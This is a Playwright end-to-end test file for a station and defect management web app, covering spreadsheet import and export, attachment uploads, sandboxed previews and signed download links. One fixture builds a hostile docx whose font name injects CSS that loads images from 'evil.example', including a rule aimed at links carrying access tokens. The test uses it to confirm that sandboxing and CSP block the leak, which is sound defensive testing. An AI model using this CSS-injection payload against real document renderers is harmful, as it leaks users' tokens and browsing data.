import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import ExcelJS from 'exceljs';
// exceljs's own zip writer, to make a docx as Word stores one.
import JSZip from 'jszip';
import type { Browser, Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser, screenshot, takeCspViolations } from './browser.ts';
import { acceptConfirm, baseUrl, columnTexts, editRow, listTotal, signIn } from './session.ts';
import { freshGeneralDefect } from './workflow-steps.ts';
import { cellText, dataSheet, downloadBy, headerLabels, readWorkbook, setRow } from './workbook-helpers.ts';

/** Station names of this file: unique in the demo data, so one search finds exactly them. */
const PREFIX = 'E2E测试';
const MB = 1024 * 1024;

// ---- node-side file helpers -------------------------------------------------------------

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) crc = (CRC_TABLE[(crc ^ byte) & 0xff] as number) ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A real, decodable RGB png of one colour (the crop dialog draws it on a canvas). */
function solidPng(width: number, height: number, rgb: [number, number, number]): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const line = Buffer.concat([Buffer.from([0]), Buffer.from(Array.from({ length: width }, () => rgb).flat())]);
  const raw = Buffer.concat(Array.from({ length: height }, () => line));
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', header), pngChunk('IDAT', zlib.deflateSync(raw)), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A minimal one-page pdf with valid cross references. */
function tinyPdf(): Buffer {
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    '<< /Length 44 >>\nstream\nBT /F1 18 Tf 20 40 Td (E2E report) Tj ET\nendstream',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let body = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(body.length);
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

/** Where the hostile docx would send what its styles read: a host the previews may never reach. */
const EVIL_HOST = 'evil.example';

/**
 * A docx whose style carries a font name that closes its rule and opens others: a page-wide
 * background fetched from another host, and a rule on links holding a token.
 */
async function hostileDocx(text: string): Promise<Buffer> {
  const font = `Evil;}body{background-image:url(https://${EVIL_HOST}/leak.png)}a[href*=access_token]{background-image:url(https://${EVIL_HOST}/token.png)}x{color:red`;
  const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
  const zip = new JSZip();
  zip.file('[Content_Types].xml', '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/></Types>');
  zip.file('_rels/.rels', '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>');
  zip.file('word/_rels/document.xml.rels', '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>');
  zip.file('word/styles.xml', `<?xml version="1.0" encoding="UTF-8"?><w:styles ${w}><w:style w:type="paragraph" w:styleId="Hostile"><w:name w:val="Hostile"/><w:rPr><w:rFonts w:ascii="${font}"/></w:rPr></w:style></w:styles>`);
  zip.file('word/document.xml', `<?xml version="1.0" encoding="UTF-8"?><w:document ${w}><w:body><w:p><w:pPr><w:pStyle w:val="Hostile"/></w:pPr><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`);
  return zip.generateAsync({ type: 'nodebuffer' });
}

/** The sandbox tokens of a preview frame: never scripts together with the app's origin. */
async function expectSandboxed(frame: Locator): Promise<void> {
  const tokens = ((await frame.getAttribute('sandbox')) ?? 'missing').split(/\s+/);
  await expect.poll(() => frame.evaluate((element) => element.hasAttribute('sandbox'))).toBe(true);
  expect(tokens).not.toContain('allow-scripts');
  expect(tokens).not.toContain('allow-same-origin');
}

/** The non-empty data rows (row 2 on) as label → text. */
function dataRows(sheet: ExcelJS.Worksheet): Record<string, string>[] {
  const labels = headerLabels(sheet);
  const rows: Record<string, string>[] = [];
  sheet.eachRow((row, number) => {
    if (number === 1) return;
    const record: Record<string, string> = {};
    labels.forEach((label, index) => (record[label] = cellText(row.getCell(index + 1).value)));
    if (Object.values(record).some(Boolean)) rows.push(record);
  });
  return rows;
}

// ---- browser-side helpers -----------------------------------------------------------------

/** The toast (or notification) that carries `title`. */
function toastWith(page: Page, title: string): Locator {
  return page.getByText(title, { exact: true }).first();
}

describe('files: import, export and attachments', () => {
  let browser: Browser;
  let page: Page;
  let dir: string;
  /** Every URL the browser asked for, to prove that none carries a token or a uakey. */
  const requested: string[] = [];
  /** Every URL that got an answer. */
  const answered: string[] = [];

  beforeAll(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'e2e-files-'));
    browser = await launchBrowser();
    page = await signIn(browser);
    page.context().on('request', (request) => requested.push(request.url()));
    page.context().on('response', (response) => answered.push(response.url()));
  });
  afterAll(async () => {
    await browser.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  const importDialog = () => page.getByRole('dialog').filter({ hasText: /导入数据|导入结果/ });

  /** Opens the import dialog, chooses the workbook, confirms and waits for the result. */
  async function importThroughDialog(file: string, shot: string): Promise<Locator> {
    await page.getByRole('button', { name: '导入', exact: true }).click();
    const dialog = importDialog();
    await dialog.getByText('导入数据 - 场站信息').or(dialog.getByText(/^导入数据 - /)).first().waitFor();
    await dialog.locator('[data-testid="import-file-input"]').setInputFiles(file);
    await dialog.getByText(path.basename(file)).waitFor();
    await screenshot(page, `${shot}-chosen`);
    await dialog.getByRole('button', { name: '上传并导入' }).click();
    await acceptConfirm(page, '文件已上传，是否开始导入数据？');
    await dialog.getByText('导入结果').waitFor();
    await screenshot(page, `${shot}-result`);
    return dialog;
  }

  async function resultCounts(dialog: Locator): Promise<{ success: number; failed: number }> {
    const count = async (label: string) => Number(await dialog.getByText(label, { exact: true }).locator('xpath=preceding-sibling::span[1]').innerText());
    return { success: await count('成功'), failed: await count('失败') };
  }

  async function searchStations(name: string): Promise<number> {
    await page.getByPlaceholder('请输入关键字').first().fill(name);
    const answer = page.waitForResponse((response) => response.url().includes('tableList.ajax'));
    await page.getByRole('button', { name: '查询', exact: true }).click();
    return Number((await (await answer).json()).totalRows);
  }

  const openStations = async () => {
    await page.goto(`${baseUrl()}/ba/station`);
    await expect.poll(() => listTotal(page)).toBeGreaterThan(0);
  };

  const downloadTemplate = () => downloadBy(page, () => page.getByRole('button', { name: '下载模板', exact: true }).click(), dir);

  /** A workbook of the station template with these rows from row 2 on, written to `name`. */
  async function stationWorkbook(name: string, rows: Record<string, string | number | null>[]): Promise<string> {
    const workbook = await readWorkbook(await downloadTemplate());
    const sheet = dataSheet(workbook);
    rows.forEach((row, index) => setRow(sheet, index + 2, row));
    const file = path.join(dir, name);
    await workbook.xlsx.writeFile(file);
    return file;
  }

  /** Two good stations and two refused ones (a required name left empty, a label no dictionary item has). */
  const goodAndBadStations = (code: string, name: string) => [
    { 场站编码: `${code}1`, 场站名称: `${name}风场一`, 场站类型: '风电', '装机容量(MW)': 49.5 },
    { 场站编码: `${code}2`, 场站名称: `${name}光伏二`, 场站类型: '光伏', '装机容量(MW)': 20 },
    { 场站编码: `${code}3`, 场站名称: null, 场站类型: '风电', '装机容量(MW)': 30 },
    { 场站编码: `${code}4`, 场站名称: `${name}储能四`, 场站类型: '火电', '装机容量(MW)': 10 },
  ];

  /** Imports two good and two refused stations; answers the downloaded workbook of the refused rows. */
  async function importWithRefusals(code: string, name: string, shot: string): Promise<string> {
    const dialog = await importThroughDialog(await stationWorkbook(`stations-${code}.xlsx`, goodAndBadStations(code, name)), shot);
    await expect.poll(() => resultCounts(dialog)).toEqual({ success: 2, failed: 2 });
    await dialog.getByText('成功导入 2 条，失败 2 条（详情请下载文件查看）').waitFor();
    const errorFile = await downloadBy(page, () => dialog.getByRole('button', { name: '导入异常数据' }).click(), dir);
    await dialog.getByRole('button', { name: '关闭', exact: true }).click();
    await dialog.waitFor({ state: 'hidden' });
    return errorFile;
  }

  it('downloads the import template from the list toolbar', async () => {
    await openStations();
    await screenshot(page, 'files-stations-list');
    const templateFile = await downloadTemplate();
    expect(templateFile).toMatch(/\.xlsx$/);
    const workbook = await readWorkbook(templateFile);
    expect(headerLabels(dataSheet(workbook))).toEqual(expect.arrayContaining(['场站编码', '场站名称', '场站类型', '装机容量(MW)']));
    expect(workbook.worksheets.find((sheet) => sheet.name === '_template')?.state).toBe('veryHidden');
  });

  it('imports two good rows and refuses two bad ones with the reasons', async () => {
    const name = `${PREFIX}甲`;
    await openStations();
    const errors = await readWorkbook(await importWithRefusals('E2EA0', name, 'files-import-1'));
    const errorSheet = dataSheet(errors);
    const rows = dataRows(errorSheet);
    expect(rows.map((row) => row['场站编码'])).toEqual(['E2EA03', 'E2EA04']);
    expect(rows[1]?.['场站类型']).toBe('火电');
    // Each refused cell carries its reason as a note.
    const labels = headerLabels(errorSheet);
    const note = (row: number, label: string) => {
      const value = errorSheet.getRow(row).getCell(labels.indexOf(label) + 1).note;
      return typeof value === 'string' ? value : (value?.texts ?? []).map((part) => part.text).join('');
    };
    expect(note(2, '场站名称')).not.toBe('');
    expect(note(3, '场站类型')).not.toBe('');
    expect(errors.worksheets.find((item) => item.name === '_template')?.state).toBe('veryHidden');
    await expect.poll(() => searchStations(name)).toBe(2);
  });

  it('re-imports the fixed error workbook and lists all four stations', async () => {
    const name = `${PREFIX}乙`;
    await openStations();
    const workbook = await readWorkbook(await importWithRefusals('E2EB0', name, 'files-import-refusals'));
    const sheet = dataSheet(workbook);
    setRow(sheet, 2, { 场站名称: `${name}风场三` });
    setRow(sheet, 3, { 场站类型: '储能' });
    const fixed = path.join(dir, 'stations-fixed.xlsx');
    await workbook.xlsx.writeFile(fixed);

    const dialog = await importThroughDialog(fixed, 'files-import-2');
    await expect.poll(() => resultCounts(dialog)).toEqual({ success: 2, failed: 0 });
    await dialog.getByText('成功导入 2 条数据').waitFor();
    await expect.poll(() => dialog.getByRole('button', { name: '导入异常数据' }).count()).toBe(0);
    await dialog.getByRole('button', { name: '关闭', exact: true }).click();
    await dialog.waitFor({ state: 'hidden' });

    await expect.poll(() => searchStations(name)).toBe(4);
    await page.locator('tbody tr', { hasText: 'E2EB04' }).waitFor();
    expect((await columnTexts(page, '场站编码')).sort()).toEqual(['E2EB01', 'E2EB02', 'E2EB03', 'E2EB04']);
    await expect.poll(() => columnTexts(page, '场站类型')).toEqual(expect.arrayContaining(['风电', '光伏', '储能']));
    await screenshot(page, 'files-imported-list');
  });

  it('exports only the filtered rows, with the list columns and dictionary labels', async () => {
    const name = `${PREFIX}丙`;
    await openStations();
    const stations = [
      { 场站编码: 'E2EC01', 场站名称: `${name}风场一`, 场站类型: '风电', '装机容量(MW)': 49.5 },
      { 场站编码: 'E2EC02', 场站名称: `${name}光伏二`, 场站类型: '光伏', '装机容量(MW)': 20 },
      { 场站编码: 'E2EC03', 场站名称: `${name}风场三`, 场站类型: '风电', '装机容量(MW)': 30 },
    ];
    const dialog = await importThroughDialog(await stationWorkbook('stations-export.xlsx', stations), 'files-import-export');
    await expect.poll(() => resultCounts(dialog)).toEqual({ success: 3, failed: 0 });
    await dialog.getByRole('button', { name: '关闭', exact: true }).click();
    await dialog.waitFor({ state: 'hidden' });
    await page.getByPlaceholder('请输入关键字').first().fill(name);
    await page.locator('label', { hasText: '场站类型' }).locator('button').first().click();
    await page.getByRole('option', { name: '风电', exact: true }).click();
    await page.keyboard.press('Escape');
    const answer = page.waitForResponse((response) => response.url().includes('tableList.ajax'));
    await page.getByRole('button', { name: '查询', exact: true }).click();
    expect((await (await answer).json()).totalRows).toBe(2);
    await page.locator('tbody tr', { hasText: 'E2EC03' }).waitFor();
    await expect.poll(() => page.locator('tbody tr', { hasText: 'E2EC02' }).count()).toBe(0);
    await screenshot(page, 'files-export-filtered');
    // The data columns: the row actions column (操作) is the list's own, not the records'.
    const listHeaders = (await page.locator('thead th').allInnerTexts()).map((text) => text.replace(/[\s▲▼]+/g, '')).filter((text) => text !== '' && text !== '操作');

    const exported = await downloadBy(page, () => page.getByRole('button', { name: '导出', exact: true }).click(), dir);
    expect(exported).toMatch(/\.xlsx$/);
    const sheet = (await readWorkbook(exported)).worksheets[0] as ExcelJS.Worksheet;
    expect(headerLabels(sheet)).toEqual(['场站编码', '场站名称', '场站类型', '装机容量(MW)', '投运日期', '值班电话', '地址']);
    expect(headerLabels(sheet)).toEqual(listHeaders);
    const rows = dataRows(sheet);
    expect(rows.map((row) => row['场站编码'])).toEqual(['E2EC01', 'E2EC03']);
    expect(rows.map((row) => row['场站名称'])).toEqual([`${name}风场一`, `${name}风场三`]);
    expect(rows.map((row) => row['场站类型'])).toEqual(['风电', '风电']);
    expect(Number(rows[0]?.['装机容量(MW)'])).toBe(49.5);
  });

  it('refuses a file other than xls or xlsx for the import', async () => {
    await openStations();
    await page.getByRole('button', { name: '导入', exact: true }).click();
    const dialog = importDialog();
    await dialog.waitFor();
    await dialog.locator('[data-testid="import-file-input"]').setInputFiles({ name: 'stations.txt', mimeType: 'text/plain', buffer: Buffer.from('not a workbook') });
    await toastWith(page, '上传文件警告').waitFor();
    await page.getByText('只能导入 xls 或 xlsx 文件').first().waitFor();
    await expect.poll(() => dialog.getByRole('button', { name: '上传并导入' }).isDisabled()).toBe(true);
    await screenshot(page, 'files-import-refused-txt');
    await dialog.getByRole('button', { name: '取消', exact: true }).click();
    await dialog.waitFor({ state: 'hidden' });
  });

  describe('attachments on a defect', () => {
    const PNG_NAME = 'e2e-photo.png';
    const PDF_NAME = 'e2e-report.pdf';
    const TXT_NAME = 'e2e-notes.txt';
    // A defect outside any workflow: once one runs, only its step's fields may change.
    let defect = { code: '', title: '' };

    const photos = () => page.locator('#root_photos');
    const attachments = () => page.locator('#root_attachments');

    async function openDefect(): Promise<void> {
      await page.goto(`${baseUrl()}/df/defect`);
      await page.getByPlaceholder('请输入关键字').first().fill(defect.title);
      await page.getByRole('button', { name: '查询' }).click();
      const row = page.locator('tbody tr', { hasText: defect.code }).first();
      await row.waitFor();
      // The form reloads (and remounts its widgets) once the record is in: choosing a file before
      // that would lose the crop dialog with the widget. (Not 'networkidle': the live message
      // stream keeps a request open on every app page.)
      const found = page.waitForResponse((response) => response.url().includes('df/defect/find.ajax'));
      await editRow(row);
      await found;
      await page.locator('#root_title').waitFor();
      await photos().waitFor();
    }

    /** A defect of the scenario's own, opened in its form. */
    async function openFreshDefect(): Promise<void> {
      defect = await freshGeneralDefect('admin', 'Admin@2024');
      await openDefect();
    }

    it('uploads, previews, downloads and removes files, and keeps them after the save', async () => {
      await openFreshDefect();
      await expect.poll(() => page.locator('#root_defectCode').inputValue()).toBe(defect.code);

      // The image goes through the crop dialog.
      await photos().locator('[data-testid="image-upload-input"]').setInputFiles({ name: PNG_NAME, mimeType: 'image/png', buffer: solidPng(64, 48, [220, 60, 40]) });
      const crop = page.getByRole('dialog').filter({ hasText: '图片裁剪' });
      await crop.waitFor();
      await screenshot(page, 'files-crop-dialog');
      await crop.getByRole('button', { name: '裁剪并上传' }).click();
      await crop.waitFor({ state: 'hidden' });
      const thumbnail = photos().locator('img').first();
      await thumbnail.waitFor();
      const imageName = (await thumbnail.getAttribute('alt')) ?? '';
      expect(imageName).toMatch(/\.png$/);

      // Two attachments: a pdf to keep, a txt to remove.
      await attachments().locator('[data-testid="file-upload-input"]').setInputFiles([
        { name: PDF_NAME, mimeType: 'application/pdf', buffer: tinyPdf() },
        { name: TXT_NAME, mimeType: 'text/plain', buffer: Buffer.from('e2e attachment\n') },
      ]);
      await attachments().getByRole('link', { name: `下载 ${PDF_NAME}` }).waitFor();
      await attachments().getByRole('link', { name: `下载 ${TXT_NAME}` }).waitFor();
      await screenshot(page, 'files-defect-uploaded');

      // Preview of the image: its bytes, fetched by a signed link, in a sandboxed frame.
      await photos().getByRole('button', { name: `预览 ${imageName}` }).click();
      const imagePreview = page.getByRole('dialog').filter({ hasText: `文件预览 - ${imageName}` });
      await imagePreview.waitFor();
      const imageFrame = imagePreview.locator(`iframe[title="${imageName}"]`);
      await imageFrame.waitFor();
      await expectSandboxed(imageFrame);
      const previewImage = imageFrame.contentFrame().locator(`img[alt="${imageName}"]`);
      await expect.poll(() => previewImage.evaluate((image: HTMLImageElement) => image.complete && image.naturalWidth)).toBeGreaterThan(0);
      await screenshot(page, 'files-preview-image');
      await page.keyboard.press('Escape');
      await imagePreview.waitFor({ state: 'hidden' });

      // Preview of the pdf: the browser's viewer in a frame whose answer is sandboxed by its CSP.
      await attachments().getByRole('button', { name: `预览 ${PDF_NAME}` }).click();
      const pdfPreview = page.getByRole('dialog').filter({ hasText: `文件预览 - ${PDF_NAME}` });
      await pdfPreview.waitFor();
      const pdfFrame = pdfPreview.locator(`iframe[title="${PDF_NAME}"]`);
      await pdfFrame.waitFor();
      const pdfUrl = await pdfFrame.getAttribute('src');
      // The browser's viewer (an extension frame) has read the file: its toolbar shows the name.
      await expect.poll(() => page.frames().some((frame) => frame.url().startsWith('chrome-extension://'))).toBe(true);
      const pdfViewer = page.frames().find((frame) => frame.url().startsWith('chrome-extension://'));
      await pdfViewer?.getByText(PDF_NAME).first().waitFor();
      expect(pdfUrl).toMatch(/signature=/);
      expect(pdfUrl).not.toMatch(/access_token|uakey/);
      await screenshot(page, 'files-preview-pdf');
      await page.keyboard.press('Escape');
      await pdfPreview.waitFor({ state: 'hidden' });
      // The signed link answers the pdf itself, sandboxed, with no token presented.
      const served = await page.request.get(new URL(pdfUrl as string, baseUrl()).toString());
      expect(served.ok()).toBe(true);
      expect(served.headers()['content-security-policy']).toMatch(/^sandbox;/);
      expect((await served.body()).subarray(0, 5).toString('latin1')).toBe('%PDF-');

      // Download of the file the list shows.
      const downloaded = await downloadBy(page, () => attachments().getByRole('link', { name: `下载 ${TXT_NAME}` }).click(), dir);
      expect(fs.readFileSync(downloaded, 'utf8')).toBe('e2e attachment\n');

      // Remove the txt after the confirm.
      await attachments().getByRole('button', { name: `移除 ${TXT_NAME}` }).click();
      await acceptConfirm(page, `是否移除 ${TXT_NAME} ?`);
      await attachments().getByRole('link', { name: `下载 ${TXT_NAME}` }).waitFor({ state: 'detached' });

      const saved = page.waitForResponse((response) => response.url().includes('df/defect/save.ajax'));
      await page.getByRole('button', { name: '保存', exact: true }).click();
      const { state, msgInfo } = await (await saved).json();
      expect({ state, msgInfo }).toEqual({ state: 0, msgInfo: '保存成功' });
      await screenshot(page, 'files-defect-saved');

      await openDefect();
      await photos().locator(`img[alt="${imageName}"]`).waitFor();
      await attachments().getByRole('link', { name: `下载 ${PDF_NAME}` }).waitFor();
      await expect.poll(() => attachments().getByRole('link', { name: `下载 ${TXT_NAME}` }).count()).toBe(0);
      await expect.poll(() => photos().locator('img').count()).toBe(1);
      await screenshot(page, 'files-defect-reopened');
    });

    it('refuses a non-image and an oversized image in the image uploader', async () => {
      await openFreshDefect();
      const input = photos().locator('[data-testid="image-upload-input"]');
      // Refused before anything is sent: no upload request leaves the page.
      const uploads: string[] = [];
      const onRequest = (request: { url(): string }) => {
        if (request.url().includes('attachment/upload')) uploads.push(request.url());
      };
      page.on('request', onRequest);
      await input.setInputFiles({ name: 'not-an-image.txt', mimeType: 'text/plain', buffer: Buffer.from('hello') });
      await toastWith(page, '上传文件警告').waitFor();
      await page.getByText('选择的文件非图像类文件').first().waitFor();
      await screenshot(page, 'files-refused-not-image');

      // The photos field allows 10 MB: one byte more is refused before anything is sent.
      const big = Buffer.alloc(10 * MB + 1);
      solidPng(4, 4, [0, 0, 0]).copy(big);
      await input.setInputFiles({ name: 'too-big.png', mimeType: 'image/png', buffer: big });
      await page.getByText('上传文件大小不能超过 10MB!').first().waitFor();
      await expect.poll(() => page.getByRole('dialog').filter({ hasText: '图片裁剪' }).count()).toBe(0);
      page.off('request', onRequest);
      expect(uploads).toEqual([]);
      await screenshot(page, 'files-refused-too-large');
      // The attachments field allows 100 MB: a file over it is not worth generating here; the
      // same check (checkSize) is covered by the image case above and by the unit tests.
    });

    it('previews a hostile docx and a workbook in sandboxed frames whose styles never reach the app page', async () => {
      await openFreshDefect();
      const book = new ExcelJS.Workbook();
      book.addWorksheet('巡检').addRows([['编号', '结论'], ['E2E-XL-1', '合格']]);
      await attachments().locator('[data-testid="file-upload-input"]').setInputFiles([
        { name: 'e2e-hostile.docx', mimeType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', buffer: await hostileDocx('E2E hostile document') },
        { name: 'e2e-sheet.xlsx', mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', buffer: Buffer.from(await book.xlsx.writeBuffer()) },
      ]);
      await attachments().getByRole('link', { name: '下载 e2e-hostile.docx' }).waitFor();
      await attachments().getByRole('link', { name: '下载 e2e-sheet.xlsx' }).waitFor();

      await attachments().getByRole('button', { name: '预览 e2e-hostile.docx' }).click();
      const docxPreview = page.getByRole('dialog').filter({ hasText: '文件预览 - e2e-hostile.docx' });
      const docxFrame = docxPreview.locator('iframe[title="e2e-hostile.docx"]');
      await docxFrame.waitFor();
      await expectSandboxed(docxFrame);
      await docxFrame.contentFrame().getByText('E2E hostile document').waitFor();
      // The document's rules live in its frame only; the app page holds none of them.
      expect((await docxFrame.contentFrame().locator('style').allTextContents()).some((css) => css.includes(EVIL_HOST))).toBe(true);
      await expect.poll(() => page.evaluate((host) => [...document.querySelectorAll('style')].some((style) => style.textContent?.includes(host)), EVIL_HOST)).toBe(false);
      await screenshot(page, 'files-preview-docx-hostile');
      // The frame's policy refused the load the styles asked for, and that is the only violation.
      const refused: string[] = [];
      await expect.poll(() => refused.push(...takeCspViolations())).toBeGreaterThan(0);
      expect(refused.every((violation) => violation.includes(`https://${EVIL_HOST}/`) && violation.includes('about:srcdoc'))).toBe(true);
      expect(refused.every((violation) => /blocked/.test(violation))).toBe(true);
      expect(answered.filter((url) => url.includes(EVIL_HOST))).toEqual([]);
      await page.keyboard.press('Escape');
      await docxPreview.waitFor({ state: 'hidden' });

      await attachments().getByRole('button', { name: '预览 e2e-sheet.xlsx' }).click();
      const sheetPreview = page.getByRole('dialog').filter({ hasText: '文件预览 - e2e-sheet.xlsx' });
      const sheetFrame = sheetPreview.locator('iframe[title="e2e-sheet.xlsx - 巡检"]');
      await sheetFrame.waitFor();
      await expectSandboxed(sheetFrame);
      await sheetFrame.contentFrame().getByText('E2E-XL-1').waitFor();
      await screenshot(page, 'files-preview-xlsx');
      await page.keyboard.press('Escape');
      await sheetPreview.waitFor({ state: 'hidden' });

      for (const name of ['e2e-hostile.docx', 'e2e-sheet.xlsx']) {
        await attachments().getByRole('button', { name: `移除 ${name}` }).click();
        await acceptConfirm(page, `是否移除 ${name} ?`);
        await attachments().getByRole('link', { name: `下载 ${name}` }).waitFor({ state: 'detached' });
      }
    });
  });

  it('sets the avatar from an uploaded picture in the personal settings and shows it in the header', async () => {
    await page.goto(`${baseUrl()}/index`);
    const header = page.locator('header');
    await header.getByRole('button', { name: /系统管理员/ }).click();
    await page.getByRole('menuitem', { name: '个人中心' }).click();
    const centre = page.getByRole('dialog').filter({ hasText: '个人设置' });
    await centre.getByRole('button', { name: '个人设置' }).click();
    await centre.locator('[data-testid="image-upload-input"]').setInputFiles({ name: 'avatar.png', mimeType: 'image/png', buffer: solidPng(80, 80, [30, 120, 200]) });
    const crop = page.getByRole('dialog').filter({ hasText: '图片裁剪' });
    await crop.getByRole('button', { name: '裁剪并上传' }).click();
    await crop.waitFor({ state: 'hidden' });
    await centre.getByRole('button', { name: '保存', exact: true }).click();
    await toastWith(page, '头像已更新').waitFor();
    const headerAvatar = header.locator('img[alt="系统管理员"]');
    await headerAvatar.waitFor();
    await expect.poll(() => headerAvatar.getAttribute('src')).toMatch(/attachment\/fileDownload\?infoNo=\w+&viewMode=inline&expires=\d+&user=\w+&signature=/);
    await expect.poll(() => headerAvatar.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0);
    await screenshot(page, 'files-avatar-set');
    await centre.getByRole('button', { name: '移除头像' }).click();
    await headerAvatar.waitFor({ state: 'detached' });
  });

  it('asked for no URL carrying a token or a uakey: downloads, previews, thumbnails and avatars use signed links', () => {
    expect(requested.filter((url) => url.includes('attachment/fileDownload')).length).toBeGreaterThan(0);
    expect(requested.filter((url) => /[?&](access_token|uakey)=/.test(url))).toEqual([]);
  });
});
